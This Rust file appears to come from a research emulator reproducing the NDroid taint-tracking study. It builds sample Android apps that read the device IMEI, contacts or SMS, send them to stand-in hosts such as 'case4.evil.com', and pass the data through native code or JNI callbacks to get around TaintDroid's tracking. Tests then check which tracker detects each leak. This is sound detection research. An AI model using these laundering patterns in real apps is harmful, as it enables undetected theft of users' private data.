//! One app per information-flow scenario of Table I / Fig. 3.
//!
//! Each app pairs Dalvik bytecode with genuine ARM native code; the
//! {source, intermediate, sink} structure matches the corresponding
//! case exactly, so running them under TaintDroid-only vs. NDroid
//! reproduces the paper's detection matrix: TaintDroid catches only
//! Case 1; NDroid catches all six.

use crate::builder::{App, AppBuilder};
use ndroid_arm::reg::RegList;
use ndroid_arm::Reg;
use ndroid_dvm::bytecode::DexInsn;
use ndroid_dvm::{InvokeKind, MethodDef, MethodKind};
use ndroid_jni::dvm_addr;
use ndroid_libc::libc_addr;

/// Case 1: Java source → native processing → Java sink **via the
/// return value** (Fig. 3a). TaintDroid detects this: its JNI policy
/// taints the return value because a parameter was tainted.
pub fn case1() -> App {
    let mut b = AppBuilder::new("case1-app", "Java source -> native hash -> Java sink");
    let c = b.class("Lapp/Case1;");

    // int nativeHash(String s): sums the bytes of s.
    let entry = b.asm.label();
    b.asm.bind(entry).unwrap();
    b.asm.push(RegList::of(&[Reg::R4, Reg::R5, Reg::LR]));
    b.asm.mov_imm(Reg::R1, 0).unwrap();
    b.asm.call_abs(dvm_addr("GetStringUTFChars"));
    b.asm.mov(Reg::R4, Reg::R0); // char*
    b.asm.mov_imm(Reg::R5, 0).unwrap(); // sum
    let top = b.asm.here_label();
    b.asm.ldrb(Reg::R1, Reg::R4, 0);
    b.asm.cmp_imm(Reg::R1, 0).unwrap();
    let done = b.asm.label();
    b.asm.b_cond(ndroid_arm::Cond::Eq, done);
    b.asm.add(Reg::R5, Reg::R5, Reg::R1);
    b.asm.add_imm(Reg::R4, Reg::R4, 1).unwrap();
    b.asm.b(top);
    b.asm.bind(done).unwrap();
    b.asm.mov(Reg::R0, Reg::R5);
    b.asm.pop(RegList::of(&[Reg::R4, Reg::R5, Reg::PC]));
    let native = b.native_method(c, "nativeHash", "IL", true, entry);

    let imei = b
        .program
        .find_method_by_name("Landroid/telephony/TelephonyManager;", "getDeviceId")
        .unwrap();
    let value_of = b
        .program
        .find_method_by_name("Ljava/lang/String;", "valueOf")
        .unwrap();
    let send = b
        .program
        .find_method_by_name("Ljava/net/Socket;", "send")
        .unwrap();
    let dest = b.string_const("case1.evil.com");
    b.method(
        c,
        MethodDef::new(
            "main",
            "V",
            MethodKind::Bytecode(vec![
                DexInsn::Invoke {
                    kind: InvokeKind::Static,
                    method: imei,
                    args: vec![],
                },
                DexInsn::MoveResult { dst: 0 },
                DexInsn::Invoke {
                    kind: InvokeKind::Static,
                    method: native,
                    args: vec![0],
                },
                DexInsn::MoveResult { dst: 1 },
                DexInsn::Invoke {
                    kind: InvokeKind::Static,
                    method: value_of,
                    args: vec![1],
                },
                DexInsn::MoveResult { dst: 1 },
                DexInsn::ConstString { dst: 2, index: dest },
                DexInsn::Invoke {
                    kind: InvokeKind::Static,
                    method: send,
                    args: vec![2, 1],
                },
                DexInsn::ReturnVoid,
            ]),
        )
        .with_registers(3),
    );
    b.finish("Lapp/Case1;", "main").unwrap()
}

/// Case 1′: the sensitive data parks in native memory; a *second*
/// native call re-surfaces it as a brand-new `String` (step 2″ of
/// Fig. 3b). TaintDroid misses it: the new object and the untainted-
/// parameter return value carry no taint.
pub fn case1_prime() -> App {
    let mut b = AppBuilder::new(
        "case1prime-app",
        "Java source -> native store; second native fetch -> Java sink",
    );
    let c = b.class("Lapp/Case1Prime;");
    let global = b.data_buffer(128);

    // void storeNative(String s): strcpy(G, chars(s))
    let store = b.asm.label();
    b.asm.bind(store).unwrap();
    b.asm.push(RegList::of(&[Reg::LR]));
    b.asm.mov_imm(Reg::R1, 0).unwrap();
    b.asm.call_abs(dvm_addr("GetStringUTFChars"));
    b.asm.mov(Reg::R1, Reg::R0);
    b.asm.ldr_const(Reg::R0, global);
    b.asm.call_abs(libc_addr("strcpy"));
    b.asm.pop(RegList::of(&[Reg::PC]));
    let store_m = b.native_method(c, "storeNative", "VL", true, store);

    // String fetchNative(): NewStringUTF(G)
    let fetch = b.asm.label();
    b.asm.bind(fetch).unwrap();
    b.asm.push(RegList::of(&[Reg::LR]));
    b.asm.ldr_const(Reg::R0, global);
    b.asm.call_abs(dvm_addr("NewStringUTF"));
    b.asm.pop(RegList::of(&[Reg::PC]));
    let fetch_m = b.native_method(c, "fetchNative", "L", true, fetch);

    let imei = b
        .program
        .find_method_by_name("Landroid/telephony/TelephonyManager;", "getDeviceId")
        .unwrap();
    let send = b
        .program
        .find_method_by_name("Ljava/net/Socket;", "send")
        .unwrap();
    let dest = b.string_const("case1prime.evil.com");
    b.method(
        c,
        MethodDef::new(
            "main",
            "V",
            MethodKind::Bytecode(vec![
                DexInsn::Invoke {
                    kind: InvokeKind::Static,
                    method: imei,
                    args: vec![],
                },
                DexInsn::MoveResult { dst: 0 },
                DexInsn::Invoke {
                    kind: InvokeKind::Static,
                    method: store_m,
                    args: vec![0],
                },
                DexInsn::Invoke {
                    kind: InvokeKind::Static,
                    method: fetch_m,
                    args: vec![],
                },
                DexInsn::MoveResult { dst: 1 },
                DexInsn::ConstString { dst: 2, index: dest },
                DexInsn::Invoke {
                    kind: InvokeKind::Static,
                    method: send,
                    args: vec![2, 1],
                },
                DexInsn::ReturnVoid,
            ]),
        )
        .with_registers(3),
    );
    b.finish("Lapp/Case1Prime;", "main").unwrap()
}

/// Case 1′, step-2′ variant: instead of Java pulling the data back
/// (step 2″), the **native code pushes it** — it calls a Java method
/// to deposit the re-surfaced secret into a static field, which the
/// Java side later sends (Fig. 3b arrows 2′ → 3).
pub fn case1_prime_callback() -> App {
    let mut b = AppBuilder::new(
        "case1prime-callback-app",
        "native deposits the secret via a Java callback (step 2')",
    );
    let c = b.program.add_class(ndroid_dvm::ClassDef {
        name: "Lapp/Case1PrimeCb;".into(),
        static_fields: vec![ndroid_dvm::FieldDef {
            name: "deposited".into(),
            is_reference: true,
        }],
        ..ndroid_dvm::ClassDef::default()
    });
    let global = b.data_buffer(128);
    let cls_str = b.data_cstr("Lapp/Case1PrimeCb;");
    let cb_str = b.data_cstr("deposit");

    // void stash(String s): park chars in native memory.
    let stash = b.asm.label();
    b.asm.bind(stash).unwrap();
    b.asm.push(RegList::of(&[Reg::LR]));
    b.asm.mov_imm(Reg::R1, 0).unwrap();
    b.asm.call_abs(dvm_addr("GetStringUTFChars"));
    b.asm.mov(Reg::R1, Reg::R0);
    b.asm.ldr_const(Reg::R0, global);
    b.asm.call_abs(libc_addr("strcpy"));
    b.asm.pop(RegList::of(&[Reg::PC]));
    let stash_m = b.native_method(c, "stash", "VL", true, stash);

    // void push(): NewStringUTF(G); CallStaticVoidMethod(deposit, s).
    let push_fn = b.asm.label();
    b.asm.bind(push_fn).unwrap();
    b.asm.push(RegList::of(&[Reg::R4, Reg::R5, Reg::LR]));
    b.asm.ldr_const(Reg::R0, global);
    b.asm.call_abs(dvm_addr("NewStringUTF"));
    b.asm.mov(Reg::R4, Reg::R0); // new jstring
    b.asm.ldr_const(Reg::R0, cls_str);
    b.asm.call_abs(dvm_addr("FindClass"));
    b.asm.mov(Reg::R5, Reg::R0);
    b.asm.ldr_const(Reg::R1, cb_str);
    b.asm.call_abs(dvm_addr("GetStaticMethodID"));
    b.asm.mov(Reg::R1, Reg::R0);
    b.asm.mov(Reg::R0, Reg::R5);
    b.asm.mov(Reg::R2, Reg::R4); // vararg 0 = jstring
    b.asm.call_abs(dvm_addr("CallStaticVoidMethod"));
    b.asm.pop(RegList::of(&[Reg::R4, Reg::R5, Reg::PC]));
    let push_m = b.native_method(c, "push", "V", true, push_fn);

    // Java deposit(String s): stores into the static field.
    b.method(
        c,
        MethodDef::new(
            "deposit",
            "VL",
            MethodKind::Bytecode(vec![
                DexInsn::SPut {
                    src: 0,
                    class: c,
                    field: 0,
                },
                DexInsn::ReturnVoid,
            ]),
        ),
    );

    let imei = b
        .program
        .find_method_by_name("Landroid/telephony/TelephonyManager;", "getDeviceId")
        .unwrap();
    let send = b
        .program
        .find_method_by_name("Ljava/net/Socket;", "send")
        .unwrap();
    let dest = b.string_const("case1prime-cb.evil.com");
    b.method(
        c,
        MethodDef::new(
            "main",
            "V",
            MethodKind::Bytecode(vec![
                DexInsn::Invoke {
                    kind: InvokeKind::Static,
                    method: imei,
                    args: vec![],
                },
                DexInsn::MoveResult { dst: 0 },
                DexInsn::Invoke {
                    kind: InvokeKind::Static,
                    method: stash_m,
                    args: vec![0],
                },
                DexInsn::Invoke {
                    kind: InvokeKind::Static,
                    method: push_m,
                    args: vec![],
                },
                // Read the deposited secret back and send it.
                DexInsn::SGet {
                    dst: 1,
                    class: c,
                    field: 0,
                },
                DexInsn::ConstString { dst: 2, index: dest },
                DexInsn::Invoke {
                    kind: InvokeKind::Static,
                    method: send,
                    args: vec![2, 1],
                },
                DexInsn::ReturnVoid,
            ]),
        )
        .with_registers(3),
    );
    b.finish("Lapp/Case1PrimeCb;", "main").unwrap()
}

/// Case 2: Java source, **native sink** (Fig. 3b step 2). TaintDroid's
/// sinks "do not include native methods", so the `send(2)` goes
/// unnoticed.
pub fn case2() -> App {
    let mut b = AppBuilder::new("case2-app", "Java source -> native socket send");
    let c = b.class("Lapp/Case2;");

    // void sendNative(String dest, String data)
    let entry = b.asm.label();
    b.asm.bind(entry).unwrap();
    b.asm
        .push(RegList::of(&[Reg::R4, Reg::R5, Reg::R6, Reg::LR]));
    b.asm.mov(Reg::R5, Reg::R1); // data jstring
    b.asm.mov_imm(Reg::R1, 0).unwrap();
    b.asm.call_abs(dvm_addr("GetStringUTFChars")); // dest chars
    b.asm.mov(Reg::R4, Reg::R0);
    b.asm.mov(Reg::R0, Reg::R5);
    b.asm.mov_imm(Reg::R1, 0).unwrap();
    b.asm.call_abs(dvm_addr("GetStringUTFChars")); // data chars
    b.asm.mov(Reg::R5, Reg::R0);
    b.asm.call_abs(libc_addr("socket"));
    b.asm.mov(Reg::R6, Reg::R0);
    b.asm.mov(Reg::R1, Reg::R4);
    b.asm.call_abs(libc_addr("connect"));
    b.asm.mov(Reg::R0, Reg::R5);
    b.asm.call_abs(libc_addr("strlen"));
    b.asm.mov(Reg::R2, Reg::R0);
    b.asm.mov(Reg::R0, Reg::R6);
    b.asm.mov(Reg::R1, Reg::R5);
    b.asm.mov_imm(Reg::R3, 0).unwrap();
    b.asm.call_abs(libc_addr("send"));
    b.asm
        .pop(RegList::of(&[Reg::R4, Reg::R5, Reg::R6, Reg::PC]));
    let native = b.native_method(c, "sendNative", "VLL", true, entry);

    let contact = b
        .program
        .find_method_by_name("Landroid/provider/ContactsProvider;", "queryName")
        .unwrap();
    let dest = b.string_const("case2-native.evil.com");
    b.method(
        c,
        MethodDef::new(
            "main",
            "V",
            MethodKind::Bytecode(vec![
                DexInsn::Invoke {
                    kind: InvokeKind::Static,
                    method: contact,
                    args: vec![],
                },
                DexInsn::MoveResult { dst: 0 },
                DexInsn::ConstString { dst: 1, index: dest },
                DexInsn::Invoke {
                    kind: InvokeKind::Static,
                    method: native,
                    args: vec![1, 0],
                },
                DexInsn::ReturnVoid,
            ]),
        )
        .with_registers(2),
    );
    b.finish("Lapp/Case2;", "main").unwrap()
}

/// Case 3: the **native code collects** the sensitive data (by calling
/// up into the framework through JNI), launders it through native
/// memory, and hands a fresh `String` to Java for transmission
/// (Fig. 3c steps 1, 3, 4).
pub fn case3() -> App {
    let mut b = AppBuilder::new(
        "case3-app",
        "native collects via JNI up-call -> Java sink",
    );
    let c = b.class("Lapp/Case3;");
    let cls_str = b.data_cstr("Landroid/telephony/TelephonyManager;");
    let meth_str = b.data_cstr("getDeviceId");

    // String getSecret()
    let entry = b.asm.label();
    b.asm.bind(entry).unwrap();
    b.asm.push(RegList::of(&[Reg::R4, Reg::LR]));
    b.asm.ldr_const(Reg::R0, cls_str);
    b.asm.call_abs(dvm_addr("FindClass"));
    b.asm.mov(Reg::R4, Reg::R0);
    b.asm.ldr_const(Reg::R1, meth_str);
    b.asm.call_abs(dvm_addr("GetStaticMethodID"));
    b.asm.mov(Reg::R1, Reg::R0);
    b.asm.mov(Reg::R0, Reg::R4);
    b.asm.call_abs(dvm_addr("CallStaticObjectMethod")); // tainted jstring
    b.asm.mov_imm(Reg::R1, 0).unwrap();
    b.asm.call_abs(dvm_addr("GetStringUTFChars")); // native copy
    b.asm.call_abs(dvm_addr("NewStringUTF")); // fresh object
    b.asm.pop(RegList::of(&[Reg::R4, Reg::PC]));
    let native = b.native_method(c, "getSecret", "L", true, entry);

    let send = b
        .program
        .find_method_by_name("Ljava/net/Socket;", "send")
        .unwrap();
    let dest = b.string_const("case3.evil.com");
    b.method(
        c,
        MethodDef::new(
            "main",
            "V",
            MethodKind::Bytecode(vec![
                DexInsn::Invoke {
                    kind: InvokeKind::Static,
                    method: native,
                    args: vec![],
                },
                DexInsn::MoveResult { dst: 0 },
                DexInsn::ConstString { dst: 1, index: dest },
                DexInsn::Invoke {
                    kind: InvokeKind::Static,
                    method: send,
                    args: vec![1, 0],
                },
                DexInsn::ReturnVoid,
            ]),
        )
        .with_registers(2),
    );
    b.finish("Lapp/Case3;", "main").unwrap()
}

/// Case 4: native gets the sensitive data from the Java context through
/// JNI (step 1) and leaks it **itself** (step 2, Fig. 3c).
pub fn case4() -> App {
    let mut b = AppBuilder::new("case4-app", "native JNI fetch -> native sendto");
    let c = b.class("Lapp/Case4;");
    let cls_str = b.data_cstr("Landroid/provider/SmsProvider;");
    let meth_str = b.data_cstr("queryLastMessage");
    let dest_str = b.data_cstr("case4.evil.com");

    // void runNative()
    let entry = b.asm.label();
    b.asm.bind(entry).unwrap();
    b.asm
        .push(RegList::of(&[Reg::R4, Reg::R5, Reg::R6, Reg::LR]));
    b.asm.ldr_const(Reg::R0, cls_str);
    b.asm.call_abs(dvm_addr("FindClass"));
    b.asm.mov(Reg::R4, Reg::R0);
    b.asm.ldr_const(Reg::R1, meth_str);
    b.asm.call_abs(dvm_addr("GetStaticMethodID"));
    b.asm.mov(Reg::R1, Reg::R0);
    b.asm.mov(Reg::R0, Reg::R4);
    b.asm.call_abs(dvm_addr("CallStaticObjectMethod")); // sms jstring
    b.asm.mov_imm(Reg::R1, 0).unwrap();
    b.asm.call_abs(dvm_addr("GetStringUTFChars"));
    b.asm.mov(Reg::R4, Reg::R0); // buf
    b.asm.call_abs(libc_addr("socket"));
    b.asm.mov(Reg::R5, Reg::R0); // fd
    b.asm.ldr_const(Reg::R1, dest_str);
    b.asm.call_abs(libc_addr("connect"));
    b.asm.mov(Reg::R0, Reg::R4);
    b.asm.call_abs(libc_addr("strlen"));
    b.asm.mov(Reg::R6, Reg::R0); // len
    b.asm.mov(Reg::R0, Reg::R5);
    b.asm.mov(Reg::R1, Reg::R4);
    b.asm.mov(Reg::R2, Reg::R6);
    b.asm.mov_imm(Reg::R3, 0).unwrap();
    b.asm.call_abs(libc_addr("send"));
    b.asm
        .pop(RegList::of(&[Reg::R4, Reg::R5, Reg::R6, Reg::PC]));
    let native = b.native_method(c, "runNative", "V", true, entry);

    b.method(
        c,
        MethodDef::new(
            "main",
            "V",
            MethodKind::Bytecode(vec![
                DexInsn::Invoke {
                    kind: InvokeKind::Static,
                    method: native,
                    args: vec![],
                },
                DexInsn::ReturnVoid,
            ]),
        )
        .with_registers(1),
    );
    b.finish("Lapp/Case4;", "main").unwrap()
}

#[cfg(test)]
mod tests {
    use super::*;
    use ndroid_core::Mode;
    use ndroid_dvm::Taint;

    fn leaks_for(app: App, mode: Mode) -> Vec<ndroid_dvm::LeakEvent> {
        let sys = app.run(mode).expect("app runs");
        sys.leaks().into_iter().cloned().collect()
    }

    #[test]
    fn case1_detected_by_both() {
        assert!(!leaks_for(case1(), Mode::TaintDroid).is_empty());
        let leaks = leaks_for(case1(), Mode::NDroid);
        assert!(!leaks.is_empty());
        assert!(leaks[0].taint.contains(Taint::IMEI));
    }

    #[test]
    fn case1_prime_missed_by_taintdroid_caught_by_ndroid() {
        assert!(
            leaks_for(case1_prime(), Mode::TaintDroid).is_empty(),
            "TaintDroid under-taints the re-surfaced string"
        );
        let leaks = leaks_for(case1_prime(), Mode::NDroid);
        assert_eq!(leaks.len(), 1);
        assert!(leaks[0].taint.contains(Taint::IMEI));
        assert_eq!(leaks[0].dest, "case1prime.evil.com");
    }

    #[test]
    fn case1_prime_callback_variant() {
        // Step 2' of Fig. 3b: native pushes the secret up via a Java
        // callback. TaintDroid misses; NDroid's call bridge carries the
        // argument taint into the DVM frame.
        assert!(leaks_for(case1_prime_callback(), Mode::TaintDroid).is_empty());
        let leaks = leaks_for(case1_prime_callback(), Mode::NDroid);
        assert_eq!(leaks.len(), 1);
        assert!(leaks[0].taint.contains(Taint::IMEI));
        assert_eq!(leaks[0].dest, "case1prime-cb.evil.com");
    }

    #[test]
    fn case2_missed_by_taintdroid_caught_by_ndroid() {
        assert!(leaks_for(case2(), Mode::TaintDroid).is_empty());
        let leaks = leaks_for(case2(), Mode::NDroid);
        assert_eq!(leaks.len(), 1);
        assert!(leaks[0].taint.contains(Taint::CONTACTS));
        assert_eq!(leaks[0].dest, "case2-native.evil.com");
        assert_eq!(*leaks[0].data, *b"Vincent");
    }

    #[test]
    fn case3_missed_by_taintdroid_caught_by_ndroid() {
        assert!(leaks_for(case3(), Mode::TaintDroid).is_empty());
        let leaks = leaks_for(case3(), Mode::NDroid);
        assert_eq!(leaks.len(), 1);
        assert!(leaks[0].taint.contains(Taint::IMEI));
    }

    #[test]
    fn case4_missed_by_taintdroid_caught_by_ndroid() {
        assert!(leaks_for(case4(), Mode::TaintDroid).is_empty());
        let leaks = leaks_for(case4(), Mode::NDroid);
        assert_eq!(leaks.len(), 1);
        assert!(leaks[0].taint.contains(Taint::SMS));
        assert_eq!(leaks[0].dest, "case4.evil.com");
    }

    #[test]
    fn exfiltrated_data_reaches_network_even_when_missed() {
        // TaintDroid mode: the data still leaves; only detection fails.
        let sys = case2().run(Mode::TaintDroid).unwrap();
        assert_eq!(sys.report().network_log.len(), 1);
        assert_eq!(
            String::from_utf8_lossy(&sys.report().network_log[0].1),
            "Vincent"
        );
        assert!(sys.report().network_log[0].2.is_clear(), "unseen by TaintDroid");
    }
}
